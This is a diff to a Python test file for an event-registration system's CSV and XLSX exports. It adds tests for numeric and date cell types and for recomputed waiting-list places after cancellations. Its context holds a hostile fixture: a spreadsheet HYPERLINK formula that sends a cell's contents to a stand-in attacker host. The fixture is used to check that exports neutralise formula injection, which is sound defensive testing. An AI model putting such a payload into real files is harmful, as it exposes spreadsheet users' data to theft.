@@ -22,14 +22,17 @@ import psutil  # type: ignore[import-untyped]  # no stubs installed
 import pytest
 from sqlalchemy import insert
 
+from events.audit.service import Actor
 from events.catalog.models import Event
 from events.clock import FrozenClock
 from events.db import Database, unit_of_work
 from events.organiser import exports
 from events.organiser.models import Organiser
+from events.registration import service
 from events.registration.models import Registration, RegistrationStatus
-from tests.factories import Factory, register
+from tests.factories import TEST_SIGNER, Factory, register
 from tests.organiser.helpers import give_event
+from tests.registration.helpers import registrations
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -163,9 +166,98 @@ async def test_xlsx_export_opens_in_openpyxl_with_strings_never_formulas(
     assert names == ["'" + v for v in HOSTILE.values()] + ["Zoë Ünïcode"]
     for row in rows[1:]:
         for cell in row:
-            assert cell.data_type in {"s", "n"}, (cell.coordinate, cell.data_type)
+            assert cell.data_type in {"s", "n", "d"}, (cell.coordinate, cell.data_type)
             if isinstance(cell.value, str):
                 assert not cell.value.startswith(exports.FORMULA_STARTS)
+
+
+async def test_xlsx_stores_numbers_as_numbers_and_times_as_excel_dates(
+    make: Factory,
+    database: Database,
+    organiser: Organiser,
+    clock: FrozenClock,
+    console: httpx.AsyncClient,
+) -> None:
+    event = await make.event(capacity=1, waiting_list_enabled=True)
+    await give_event(database, event, organiser)
+    await register(make, event, "in@example.org")
+    await register(make, event, "wait@example.org")
+    response = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Registrations"]
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    confirmed, waiting = (dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2))
+    ids = sorted(r.id for r in await registrations(database, event.id))
+    assert confirmed["Registration ID"].value == ids[0]
+    assert confirmed["Registration ID"].data_type == "n"
+    assert isinstance(confirmed["Registration ID"].value, int)
+    assert waiting["Place on waiting list"].value == 1
+    assert waiting["Place on waiting list"].data_type == "n"
+    assert confirmed["Place on waiting list"].value is None
+    registered = confirmed["Registered at"]
+    assert registered.is_date and registered.data_type == "d"
+    assert registered.number_format == "yyyy-mm-dd hh:mm"
+    # The event's own zone (GMT in early March), as a real date a spreadsheet can sort.
+    assert registered.value == dt.datetime(2026, 3, 2, 10, 0)
+    assert confirmed["Cancelled at"].value is None
+    assert confirmed["Membership number"].data_type == "s"
+
+
+async def test_exports_show_each_waiting_persons_place_in_line_now(
+    make: Factory,
+    database: Database,
+    organiser: Organiser,
+    clock: FrozenClock,
+    console: httpx.AsyncClient,
+) -> None:
+    """Ann has the place; Bob, Cy, Di and Ed wait (numbers 1 to 4). Ann cancels: Bob is
+    promoted. Di cancels. Then Cy is next in line (1) and Ed after (2), and Bob, now
+    confirmed, has no place in line, whatever numbers they were given on joining."""
+    event = await make.event(capacity=1, waiting_list_enabled=True)
+    await give_event(database, event, organiser)
+    for name in ("ann", "bob", "cy", "di", "ed"):
+        await register(make, event, f"{name}@example.org", name=name.capitalize())
+    for name in ("ann", "di"):
+        (person,) = [
+            r for r in await registrations(database, event.id) if r.email == f"{name}@example.org"
+        ]
+        async with unit_of_work(database.writer) as session:
+            await service.cancel_by_organiser(
+                session,
+                clock,
+                event=event,
+                registration_id=person.id,
+                actor=Actor.of(organiser),
+                signer=TEST_SIGNER,
+            )
+    expected = {
+        "Ann": ("cancelled", ""),
+        "Bob": ("confirmed", "1"),
+        "Cy": ("waitlisted", "2"),
+        "Di": ("cancelled", "3"),
+        "Ed": ("waitlisted", "4"),
+    }
+    assert {
+        r.name: (r.status.value, str(r.waiting_list_number or ""))
+        for r in await registrations(database, event.id)
+    } == expected  # the stored numbers: what the export used to show
+    response = await console.get(f"/organiser/events/{event.slug}/registrations.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    shown = {r["Name"]: (r["Status"], r["Place on waiting list"]) for r in rows}
+    assert shown == {
+        "Ann": ("cancelled", ""),
+        "Bob": ("confirmed", ""),
+        "Cy": ("waitlisted", "1"),
+        "Di": ("cancelled", ""),
+        "Ed": ("waitlisted", "2"),
+    }
+    # Page by page (one row per page), the places are still counted over the whole list.
+    chunks = [c async for c in exports.csv_stream(database.reader, event, page=1)]
+    paged = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
+    assert [r["Place on waiting list"] for r in paged] == [r["Place on waiting list"] for r in rows]
+    xlsx = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Registrations"]
+    places = {row[1].value: row[4].value for row in sheet.iter_rows(min_row=2)}
+    assert places == {"Ann": None, "Bob": None, "Cy": 1, "Di": None, "Ed": 2}
 
 
 async def test_exports_leave_out_other_events_and_erased_people(
